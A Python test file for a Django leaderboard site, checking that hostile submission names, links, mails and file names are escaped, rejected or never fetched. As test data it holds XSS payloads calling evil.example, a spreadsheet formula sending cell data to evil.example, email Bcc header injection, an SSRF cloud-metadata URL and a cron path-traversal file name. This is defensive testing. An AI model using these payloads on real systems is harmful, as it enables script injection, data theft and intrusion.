"""What people write is text everywhere: on pages, in drawings, feed, tables, mails; and no link of theirs is opened."""

from __future__ import annotations

import csv
import io
import json
import socket
from xml.etree import ElementTree

import pytest
from django.core.files.base import ContentFile
from django.test import Client
from django.utils import translation

from hueval_site.accounts.models import Team, Token, User
from hueval_site.boards import boards
from hueval_site.scoring.work import score_waiting
from hueval_site.submissions.card import CardForm
from hueval_site.submissions.mails import send_mails
from hueval_site.submissions.models import Mail, Note, State, Submission
from hueval_site.submissions.publish import decide, request_publication
from hueval_site.submissions.receive import check, faults_text, store
from hueval_site.submissions.similarity import look_for_copies
from hueval_site.submissions.versions import version_of
from leaderboard.tests.people import CARD, member, signed_in, submitted, upload

pytestmark = pytest.mark.django_db(transaction=True)

# The names are such that the form takes them: Latin letters and punctuation.
SCRIPT = "\"><script src=//evil.example></script><img src=x onerror='alert(1)'>"
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Puli")'
TEXT = "</textarea></title><svg onload=alert(1)> {{ 7*7 }} {% debug %} ${7*7} ]]> <!-- &lt;script&gt;"


@pytest.fixture
def hostile(settings):
    """Two public rows of a team, with names that are code in one language or another; and who submitted, and staff."""
    anna = member(team='<b onclick="x()">Team</b>')
    staff = member("staff@example.org", team=None, is_staff=True)
    rows = []
    for seed, name in enumerate((SCRIPT, FORMULA)):
        form = CardForm(CARD | {"model_name": name, "base": name, "training_data": TEXT, "contamination": TEXT})
        assert form.is_valid(), form.errors
        file = upload([{"id": "0", "label": "0"}], f"{name}.json")
        check(store(anna, boards()["hulu_hucola"], file, form.card))  # has faults
        row = submitted(anna, 0.8 - 0.3 * seed, seed)
        Submission.objects.filter(pk=row.pk).update(**form.card, name=f"{name}.json")
        score_waiting()
        request_publication(row, anna)
        rows.append(decide(Submission.objects.get(pk=row.pk), staff, True, TEXT))
        look_for_copies(rows[-1])
        Note.objects.create(submission=row, staff=staff, text=TEXT)
    assert [row.state for row in rows] == [State.PUBLIC] * 2
    return anna, staff, rows


def pages_of(rows) -> list[str]:
    one, other = (row.pk for row in rows)
    public = [
        f"models/{one}/",
        f"models/{other}/",
        f"rows/{one}/",
        "families/hulu/",
        "boards/hulu_hucola/",
        "tasks/",
        "",
    ]
    return [f"/en/{page}" for page in (*public, f"compare/?first={one}&second={other}")]


def test_names_are_text_on_every_page(hostile):
    anna, staff, rows = hostile
    faulty = Submission.objects.filter(state=State.FAULTY)
    own = ["/en/my/", "/en/my/team/", "/en/submit/hulu_hucola/"]
    own += [f"/en/my/{one.pk}/{page}" for one in (*rows, *faulty) for page in ("", "state/")]
    own += [f"/en/my/{one.pk}/card/" for one in faulty]
    ours = [f"/en/staff/?state={state}" for state in State] + [f"/en/staff/{one.pk}/" for one in (*rows, *faulty)]
    shown = 0
    for client, places in ((Client(), pages_of(rows)), (signed_in(anna), own), (signed_in(staff), ours)):
        for place in places:
            answer = client.get(place)
            text = answer.content.decode()
            assert answer.status_code in (200, 404), place
            for raw in ("<script src=//", "<img src=x", "<svg onload", "<b onclick", "<!-- &lt;"):
                assert raw not in text, (place, raw)
            shown += "&lt;script src=//evil.example&gt;" in text
    assert shown > 10  # shown, and not left out


def test_feed_and_graph_are_well_formed_and_hold_names_as_text(hostile):
    rows = hostile[2]
    client = Client()
    feed = ElementTree.fromstring(client.get("/en/new.atom").content)
    titles = [title.text for title in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert any(SCRIPT in title for title in titles) and any(FORMULA in title for title in titles)
    for theme in ("light", "dark"):
        answer = client.get(f"/en/boards/hulu_hucola/graph-{theme}-wide.svg")
        drawing = ElementTree.fromstring(answer.content)
        names = {one.tag.rpartition("}")[2] for one in drawing.iter()}
        assert not names & {"script", "foreignObject", "a", "image", "iframe", "style", "animate", "set"}
        assert not [name for one in drawing.iter() for name in one.attrib if name.lower().startswith("on")]
        assert any(SCRIPT[:20] in (one.text or "") for one in drawing.iter())
    assert len(rows) == 2


def test_tables_have_no_formula(hostile):
    for place in ("/api/v1/boards/hulu_hucola.csv", "/en/families/hulu/table.csv"):
        text = Client().get(place).content.decode()
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert f"'{FORMULA}" in cells and SCRIPT in cells, place
        assert [cell for cell in cells if cell[:1] in ("=", "@", "\t", "\r", "+")] == []
        numbers = [cell for cell in cells if cell.startswith("-")]
        assert [cell for cell in numbers if not cell[1:].replace(".", "").isdigit()] == []


@pytest.mark.parametrize("code", ["\x1b[2J", "\x9b31m", "\x07", "\x7f", "\u202e", "\x00"])
@pytest.mark.parametrize("field", ["model_name", "base", "licence", "training_data", "contamination", "link"])
def test_no_text_of_a_card_moves_the_cursor_of_a_terminal(field, code):
    text = f"https://example.org/{code}" if field == "link" else f"Puli{code}2"
    assert field in CardForm(CARD | {field: text}).errors


@pytest.mark.parametrize("code", ["\x1b[2J", "\x9b31m", "\x07", "\x7f", "\u202e"])
def test_no_other_name_moves_it(code):
    anna = User.objects.create_user("anna@example.org")
    client = signed_in(anna)
    client.post("/en/my/team/", {"name": f"Puli{code}2"})
    client.post("/en/my/tokens/", {"name": f"laptop{code}2"})
    names = [*Team.objects.values_list("name", flat=True), *Token.objects.values_list("name", flat=True)]
    bela = member("bela@example.org")
    found = check(store(bela, boards()["hulu_hucola"], upload([{"id": "0", "label": code}], f"a{code}.json"), CARD))
    texts = [found.name, *faults_text(found, "en"), *faults_text(found, "hu")]
    assert [text for text in (*names, *texts) if not text.rstrip("\n").isprintable()] == []


def test_json_is_sent_as_json_alone(hostile):
    anna, _, rows = hostile
    token = Token.create(anna, "laptop")[1]
    headers = {"authorization": f"Bearer {token}"}
    for place in (
        "boards/hulu_hucola",
        "tasks",
        f"submissions/{rows[0].pk}",
        "submissions",
        "submissions/x",
        "nothing",
    ):
        answer = Client().get(f"/api/v1/{place}", headers=headers)
        assert answer.headers["Content-Type"].startswith("application/json"), place
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        json.loads(answer.content)
    export = signed_in(anna).get("/en/my/account/data/")
    assert export.headers["Content-Type"] == "application/json"
    assert export.headers["Content-Disposition"].startswith("attachment")


def test_a_mail_has_the_headers_of_ours_alone(settings, mailoutbox):
    """Line breaks in names end in no header: of a row that came past all forms, and of an address."""
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    anna = member()
    staff = member("staff@example.org", team=None, is_staff=True)
    row = submitted(anna)
    score_waiting()
    Submission.objects.filter(pk=row.pk).update(model_name="Puli\r\nBcc: all@example.org\r\n\r\nclick\u2028x\u202e")
    request_publication(Submission.objects.get(pk=row.pk), anna)
    decide(Submission.objects.get(pk=row.pk), staff, False, "bad\r\nBcc: all@example.org")
    send_mails()
    assert len(mailoutbox) >= 3 and not Mail.objects.filter(sent=None)
    for mail in mailoutbox:
        message = mail.message()
        assert set(message) <= {
            "Subject", "From", "To", "Date", "Message-ID", "Auto-Submitted",
            "Content-Type", "MIME-Version", "Content-Transfer-Encoding",
        }  # fmt: skip
        assert len(mail.recipients()) == 1
        assert "\u202e" not in mail.subject and len(mail.subject.splitlines()) == 1
    with translation.override("en"):
        answer = Client().post(
            "/en/accounts/signup/",
            {
                "email": "a@example.org\r\nBcc: b@example.org",
                "password1": "kilenc-zold-alma",
                "password2": "kilenc-zold-alma",
            },
        )
    assert answer.status_code == 200 and not Mail.objects.filter(to__contains="b@example.org")


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "gopher://127.0.0.1/",
        "http://example.org/\u202egpj.exe", "http://exa mple.org/", "//example.org", "http://example.org/\r\nX: y",
    ],
)  # fmt: skip
def test_a_link_is_of_the_web(link):
    form = CardForm(CARD | {"link": link})
    assert not form.is_valid() or form.cleaned_data["link"].startswith(("http://", "https://"))
    assert form.is_valid() is (link == "//example.org")  # which gets a scheme


def test_no_link_is_ever_opened(monkeypatch, settings):
    """From the upload to the public row, pages, feed and mails: no connection, no look-up of a name."""
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    asked = []

    def refuse(*given: object, **named: object) -> None:
        asked.append(given)
        raise AssertionError("a connection was asked for")

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    for name in ("getaddrinfo", "gethostbyname", "create_connection"):
        monkeypatch.setattr(socket, name, refuse)
    anna, staff = member(), member("staff@example.org", team=None, is_staff=True)
    link = "http://169.254.169.254/latest/meta-data/"
    client = signed_in(anna)
    file = upload([{"id": str(n), "label": "0"} for n in range(200)])
    given = CARD | {"link": link, "base": link, "upload": file, "training_data": link}
    assert client.post("/en/submit/hulu_hucola/", given).status_code == 302
    score_waiting()
    row = Submission.objects.get()
    client.post(f"/en/my/{row.pk}/publication/")
    decision = {"decision": "approve", "number": 1, "version": version_of(row)}
    assert signed_in(staff).post(f"/en/staff/{row.pk}/decision/", decision).status_code == 302
    assert Submission.objects.get().state == State.PUBLIC
    token = {"authorization": f"Bearer {Token.create(anna, 'laptop')[1]}"}
    for place in ("", "boards/hulu_hucola/", f"models/{row.pk}/", f"rows/{row.pk}/", "new.atom", f"my/{row.pk}/"):
        assert client.get(f"/en/{place}").status_code == 200
        assert Client().get(f"/en/{place}").status_code in (200, 302)
    for place in ("boards/hulu_hucola", "boards/hulu_hucola.csv", "tasks", f"submissions/{row.pk}"):
        assert client.get(f"/api/v1/{place}", headers=token).status_code == 200
    text = Client().get(f"/en/models/{row.pk}/").content.decode()
    assert f'<a href="{link}" rel="nofollow noopener noreferrer ugc">' in text  # for who clicks on it
    assert send_mails() > 0
    assert asked == []


def test_the_name_of_a_file_is_no_header_and_no_path():
    """Of the downloads, and of the place in the store."""
    anna = member()
    name = 'a"\r\nSet-Cookie: x=1\r\n\r\n<script>.json/../../../../etc/cron.d/x\u202e\0.json'
    found = check(store(anna, boards()["hulu_hucola"], ContentFile(b"[]", name=name), CARD))
    assert found.file.name == f"{found.pk}.json"
    answer = signed_in(anna).get(f"/en/my/{found.pk}/faults/")
    assert answer.headers["Content-Disposition"] == f'attachment; filename="faults-{found.pk}.txt"'
    assert "Set-Cookie" not in answer.headers
    assert answer.headers["Content-Type"].startswith("text/plain")
